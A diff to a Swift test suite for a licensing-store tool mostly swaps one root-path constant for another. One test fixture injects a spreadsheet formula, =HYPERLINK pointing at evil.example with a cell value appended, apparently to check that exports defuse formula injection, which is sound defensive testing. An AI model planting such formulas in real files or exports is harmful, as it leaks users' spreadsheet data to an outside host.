@@ -1,5 +1,6 @@
 import Foundation
 import StoreKinds
+import TestSupport
 import Testing
 
 @Suite("The store commands, as a policy officer and a licensing officer use them")
@@ -311,7 +312,7 @@ struct StoreCommandTests {
         _ = try Self.run(["register", "import", "Examples/register/gias-extract.csv"], in: folder)
         _ = try Self.run(Safeguard.openRound, in: folder)
         let text = try String(
-            contentsOfFile: Safeguard.root + "/Examples/returns/oakfield-primary.yaml", encoding: .utf8)
+            contentsOfFile: Paths.root + "/Examples/returns/oakfield-primary.yaml", encoding: .utf8)
         let file = folder.appendingPathComponent("formula.yaml")
         try text.replacingOccurrences(
             of: #"dsl_name: [^\n]+"#, with: #"dsl_name: '=HYPERLINK("http://evil.example/?a="&A1,"Priya")'"#,
@@ -344,7 +345,7 @@ struct StoreCommandTests {
         let folder = try await kind.newFolder()
         defer { try? FileManager.default.removeItem(at: folder) }
         let original = try String(
-            contentsOfFile: Safeguard.root + "/Examples/applications/carl-mason-refer.json", encoding: .utf8)
+            contentsOfFile: Paths.root + "/Examples/applications/carl-mason-refer.json", encoding: .utf8)
         let moved = folder.appendingPathComponent("moved.json")
         try original.replacingOccurrences(of: "\"district\": \"northampton\"", with: "\"district\": \"kettering\"")
             .write(to: moved, atomically: true, encoding: .utf8)
@@ -388,7 +389,7 @@ struct StoreCommandTests {
         try FileManager.default.createDirectory(at: inbox, withIntermediateDirectories: true)
         for name in ["riverside-broken.yaml", "riverside-corrected.yaml"] {
             try FileManager.default.copyItem(
-                atPath: Safeguard.root + "/Examples/returns/" + name, toPath: inbox.appendingPathComponent(name).path)
+                atPath: Paths.root + "/Examples/returns/" + name, toPath: inbox.appendingPathComponent(name).path)
         }
         let list = inbox.appendingPathComponent("received.csv")
         // Listed correction first: the days, not the lines, give the order.
@@ -525,7 +526,7 @@ struct StoreCommandTests {
                     "Examples/applications/" + $0
                 }, in: folder)
         let rules = folder.appendingPathComponent("Rules")
-        try FileManager.default.copyItem(atPath: Safeguard.root + "/Rules", toPath: rules.path)
+        try FileManager.default.copyItem(atPath: Paths.root + "/Rules", toPath: rules.path)
         let file = rules.appendingPathComponent("taxi-driver-application.rules.yaml")
         let text = try String(contentsOf: file, encoding: .utf8)
         try text.replacingOccurrences(of: "  violence_years:\n    value: 10", with: "  violence_years:\n    value: 5")
@@ -566,7 +567,7 @@ struct StoreCommandTests {
         let process = Process()
         process.executableURL = URL(fileURLWithPath: "/usr/bin/script")
         process.arguments = ["-qec", command, "/dev/null"]
-        process.currentDirectoryURL = URL(fileURLWithPath: Safeguard.root)
+        process.currentDirectoryURL = URL(fileURLWithPath: Paths.root)
         let output = Pipe()
         process.standardOutput = output
         process.standardInput = FileHandle.nullDevice
